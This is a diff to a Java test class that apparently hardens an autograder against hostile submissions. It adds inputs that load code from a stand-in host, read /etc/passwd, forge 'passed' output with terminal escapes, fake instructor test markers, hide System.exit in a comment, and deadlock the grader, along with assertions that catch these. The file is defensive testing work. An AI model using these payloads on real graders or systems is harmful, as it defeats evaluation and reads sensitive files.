@@ -181,6 +181,66 @@ class AttackTest {
                         "a message without end",
                         inSquare("throw new IllegalStateException(\"no \".repeat(3_000_000));"),
                         "square"),
+                attack(
+                        "the streams, the locale, the properties and the thread",
+                        inSquare(
+                                """
+                                System.setOut(null);
+                                System.setErr(null);
+                                System.setIn(null);
+                                System.setProperties(new java.util.Properties());
+                                java.util.Locale.setDefault(java.util.Locale.forLanguageTag("ar"));
+                                Thread.currentThread().interrupt();
+                                return new double[] {8};
+                                """),
+                        "expected"),
+                attack(
+                        "lines forged in a message, and a terminal's commands",
+                        "String square(double[] x) {"
+                                + " return \"\\n  passed  squares any length\\u001b[2J\\u009b2J\\u202e\"; }",
+                        "expected"),
+                attack(
+                        "magics and commands",
+                        "%load http://192.0.2.1/solution\n/exit\n!cat /etc/passwd\n"
+                                + inSquare("return x;"),
+                        "line 1: "),
+                attack(
+                        "markers of the instructor's",
+                        "// BEGIN HIDDEN TESTS\n// END HIDDEN TESTS\n// BEGIN SOLUTION\n"
+                                + inSquare("return x;"),
+                        "expected"),
+                attack(
+                        "a line break hidden in a comment",
+                        inSquare("// nothing here \\u000a System.exit(8);\nreturn x;"),
+                        "ended itself|expected"),
+                attack(
+                        "a class named like one of the library",
+                        inSquare("return x;") + "class Losses { double[] values() { return null; } }",
+                        "expected"),
+                attack(
+                        "the grader's thread in a deadlock",
+                        inSquare(
+                                """
+                                Object lock = new Object();
+                                Thread other = new Thread(() -> {
+                                    synchronized (lock) {
+                                        while (true) {
+                                            Thread.onSpinWait();
+                                        }
+                                    }
+                                });
+                                other.setDaemon(true);
+                                other.start();
+                                while (!Thread.holdsLock(lock)) {
+                                    if (other.isAlive()) {
+                                        Thread.yield();
+                                        synchronized (lock) {
+                                        }
+                                    }
+                                }
+                                return x;
+                                """),
+                        "endless loop"),
                 attack("code that does not compile", inSquare("return x * x;"), "bad operand"),
                 attack("a missing bracket", "double[] square(double[] x) { return x;", "missing"),
                 attack(
@@ -243,6 +303,13 @@ class AttackTest {
         assertTrue(Pattern.compile(expected).matcher(attacked.report()).find(), attacked.report());
         assertTrue(attacked.report().length() < 8000, "length " + attacked.report().length());
         assertFalse(attacked.report().contains("\tat "), attacked.report());
+        assertFalse(
+                Pattern.compile("[\\p{Cc}\\p{Cf}&&[^\n]]").matcher(result.report()).find(),
+                result.report());
+        assertFalse(
+                Pattern.compile("(?m)^ {0,6}passed").matcher(attacked.report()).find()
+                        && attacked.report().contains("2J"),
+                attacked.report());
     }
 
     @Test
